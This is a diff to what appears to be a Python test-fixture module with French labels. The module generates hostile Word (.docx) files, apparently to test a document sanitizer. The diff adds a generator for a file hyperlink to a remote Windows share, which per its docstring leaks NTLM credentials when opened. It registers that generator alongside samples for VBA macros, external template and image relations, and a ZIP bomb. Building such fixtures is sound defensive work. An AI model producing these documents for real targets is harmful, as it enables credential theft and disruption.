@@ -92,6 +92,13 @@ def hyperlink() -> bytes:
                                     'TargetMode="External"/>'))
 
 
+def file_hyperlink() -> bytes:
+    """A hyperlink to a Windows share: opening it leaks the reader's credentials (NTLM)."""
+    return pack(_add_rel(members(), '<Relationship Id="rIdF" Type="http://schemas.openxmlformats.org/'
+                                    'officeDocument/2006/relationships/hyperlink" Target="file://serveur/partage" '
+                                    'TargetMode="External"/>'))
+
+
 def undeclared_content_type() -> bytes:
     parts = members()
     parts["word/inconnu.qqq"] = b"donnees"
@@ -119,6 +126,7 @@ HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
     "vba": (vba_project, "macros"),
     "external-image": (external_image, "relation externe « image »"),
     "external-template": (external_template, "relation externe « attachedTemplate »"),
+    "file-hyperlink": (file_hyperlink, "relation externe « hyperlink »"),
     "undeclared": (undeclared_content_type, "aucun type de contenu déclaré"),
     "macro-enabled": (macro_enabled_main, "contenu actif déclaré"),
     "lying-sizes": (lying_sizes, "bombe ZIP"),
